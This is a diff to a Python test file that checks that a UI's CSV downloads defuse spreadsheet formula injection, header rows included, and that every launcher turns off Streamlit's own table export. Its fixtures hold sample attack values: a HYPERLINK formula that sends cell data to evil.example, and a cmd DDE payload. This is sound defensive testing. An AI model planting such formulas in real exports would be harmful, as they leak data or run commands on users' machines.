@@ -4,10 +4,12 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 import pandas as pd
 import pytest
 
+from tests.conftest import ROOT
 from ui.tables import FileError, as_csv, read_upload, results_table, text_columns, texts_in
 
 
@@ -114,7 +116,8 @@ def test_a_download_shows_formulas_as_text_and_leaves_numbers_and_other_texts_as
     inside a text is quoted, so a spreadsheet keeps it in its row."""
     texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@anonymous thanks!", "-2+3+cmd|' /C calc'!A0",
              "+1 555 0100", "\t=1+1", "\r=1+1", "great day = good day\rsame row", "'=already text", "-0.5"]
-    frame = pd.DataFrame({"text": texts, "rating": ["-0.5", "-1e3", "+2", "-1,234.5", "-5%", "4", "5", "6", "-"]})
+    frame = pd.DataFrame({"text": texts, "rating": ["-0.5", "-1e3", "+2", "-1,234.5", "-5%", "4", "5", "6", "-"],
+                          '=HYPERLINK("http://evil.example/","x")': ["a"] * 9})  # a column name from the file
     predictions = [{"label": "neutral", "probabilities": {"negative": 0.25, "neutral": 0.5, "positive": 0.25}}] * 9
     table = results_table(frame, list(range(1, 10)), predictions, "=run")
     rows = list(csv.DictReader(io.StringIO(as_csv(table).decode(), newline="")))
@@ -123,7 +126,15 @@ def test_a_download_shows_formulas_as_text_and_leaves_numbers_and_other_texts_as
         "'+1 555 0100", "'\t=1+1", "'\r=1+1", "great day = good day\rsame row", "'=already text", "-0.5"]
     assert [row["rating"] for row in rows] == ["-0.5", "-1e3", "+2", "-1,234.5", "-5%", "4", "5", "6", "'-"]
     assert {row["model_version"] for row in rows} == {"'=run"} and {row["confidence"] for row in rows} == {"0.5"}
+    assert list(rows[0])[3] == "'=HYPERLINK(\"http://evil.example/\",\"x\")"  # the header row too
     assert table["text"].tolist() == texts  # the table on screen is the file's own
+
+
+def test_every_launcher_turns_off_streamlits_own_table_export():
+    """Each table's "Download as CSV" writes formulas as they are; set from app.py it came too late for the first
+    page a fresh server showed (a hostile review), so every launcher passes it on the command line."""
+    for path in (ROOT / "scripts" / "run_ui.sh", ROOT / "ui" / "Dockerfile", ROOT / "tests" / "ui" / "conftest.py"):
+        assert "--client.disableDataExport true" in re.sub(r'[\s",\\]+', " ", path.read_text()), path
 
 
 def test_a_results_download_uploaded_again_keeps_every_column_under_a_name_of_its_own():
